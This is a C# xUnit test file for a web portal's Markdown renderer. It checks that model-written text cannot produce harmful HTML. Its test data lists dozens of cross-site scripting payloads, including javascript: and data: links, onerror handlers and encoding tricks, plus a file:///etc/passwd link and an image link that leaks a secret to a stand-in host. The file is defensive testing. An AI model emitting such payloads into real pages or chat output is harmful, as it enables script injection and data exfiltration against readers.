using System.Diagnostics;
using AngleSharp.Html.Parser;
using FineTunePortal.Web.Components.Shared;

namespace FineTunePortal.Web.Tests.Components;

/// <summary>A model made to attack its readers: whatever it writes, the page may hold nothing that runs, loads or leads astray.</summary>
public class MarkdownTests
{
    private static readonly string[] s_allowedTags =
        ["p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td"];

    private static readonly string[] s_allowedAttributes = ["href", "rel", "target", "class", "style", "start"];

    public static TheoryData<string> Attacks => new()
    {
        "<script>alert(1)</script>",
        "text <script src=https://evil.example/x.js></script> text",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<style>body{display:none}</style>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<!-- <img src=x> --><![CDATA[<img src=x>]]><?php echo 1 ?>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](/account)",
        "[x](//evil.example/)",
        "[x](account/team \"title\")",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "![](https://evil.example/?leak=secret)",
        "![alt](https://evil.example/a.png \"t\")",
        "![alt](data:image/svg+xml,<svg onload=alert(1)>)",
        "![![inner](https://evil.example/1.png)](https://evil.example/2.png)",
        "[![badge](https://evil.example/b.png)](javascript:alert(1))",
        "![x][ref]\n\n[ref]: https://evil.example/r.png",
        "[x](https://ok.example/\"onmouseover=\"alert(1))",
        "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
        "```\"onmouseover=\"alert(1)\n<b>x</b>\n```",
        "```html\n<script>alert(1)</script>",
        "`<script>` {onclick=alert(1)} {.class #id style=x}",
        "# h {onclick=alert(1)}",
        "|a|b|\n|:-|-:|\n|<img src=x onerror=alert(1)>|[x](javascript:1)|",
        "https://evil.example/<script>alert(1)</script>",
        "javascript:alert(1) www.evil.example mailto:a@b.example",
        "**bold [x](javascript:alert(1) _it_** <b onclick=1>",
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void ToHtml_Attack_HoldsOnlyHarmlessHtml(string attack) => AssertHarmless(Markdown.ToHtml(attack));

    [Theory]
    [MemberData(nameof(Attacks))]
    public void ToHtml_AttackAsItStreams_IsHarmlessAtEachLength(string attack)
    {
        for (int length = 1; length <= attack.Length; length++)
        {
            AssertHarmless(Markdown.ToHtml(attack[..length]));
        }
    }

    [Theory]
    [InlineData("[x](https://a.example/b)", "<p><a href=\"https://a.example/b\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a></p>\n")]
    [InlineData("![a cat](https://a.example/cat.png)", "<p><a href=\"https://a.example/cat.png\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">a cat</a></p>\n")]
    [InlineData("![](https://a.example/cat.png)", "<p><a href=\"https://a.example/cat.png\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">https://a.example/cat.png</a></p>\n")]
    [InlineData("![a *cat*](data:image/png;base64,AAAA)", "<p>a <em>cat</em></p>\n")]
    [InlineData("[**x**](javascript:alert(1)) y", "<p><strong>x</strong> y</p>\n")]
    [InlineData("<someone@a.example>", "<p><a href=\"mailto:someone@a.example\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">someone@a.example</a></p>\n")]
    [InlineData("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>\n")]
    [InlineData("# Title", "<h3>Title</h3>\n")]
    [InlineData("```\n<i>", "<pre><code>&lt;i&gt;\n</code></pre>\n")]
    [InlineData("one\ntwo", "<p>one<br />\ntwo</p>\n")]
    [InlineData("", "")]
    public void ToHtml_Text_IsShownSo(string text, string html) => Assert.Equal(html, Markdown.ToHtml(text));

    [Theory]
    [InlineData(">")]
    [InlineData("[")]
    [InlineData("![")]
    [InlineData("- ")]
    [InlineData("*a **b ")]
    [InlineData("`")]
    [InlineData("<a ")]
    [InlineData("|")]
    [InlineData("[x](")]
    [InlineData("www.")]
    [InlineData("https://a.b/(")]
    public void ToHtml_TheSameOverAndOver_IsShownSoonAndWithoutHarm(string piece)
    {
        var clock = Stopwatch.StartNew();
        string text = string.Concat(Enumerable.Repeat(piece, Markdown.LongestText / piece.Length));
        AssertHarmless(Markdown.ToHtml(text));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), $"took {clock.Elapsed}");
    }

    [Fact]
    public void ToHtml_HugeText_IsShownAsItIs() =>
        Assert.Equal("<pre>" + new string('#', Markdown.LongestText) + "&lt;b&gt;</pre>", Markdown.ToHtml(new string('#', Markdown.LongestText) + "<b>"));

    private static void AssertHarmless(string html)
    {
        var body = new HtmlParser().ParseDocument("<body>" + html).Body!;
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, s_allowedTags);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, s_allowedAttributes));
            if (element.GetAttribute("style") is { } style)
            {
                Assert.Matches(@"\Atext-align: (left|right|center);\z", style);
            }

            if (element.LocalName == "a")
            {
                Assert.Matches(@"\A(https?://|mailto:)", element.GetAttribute("href"));
                Assert.Equal("noopener noreferrer nofollow", element.GetAttribute("rel"));
                Assert.Equal("_blank", element.GetAttribute("target"));
            }
        }
    }
}
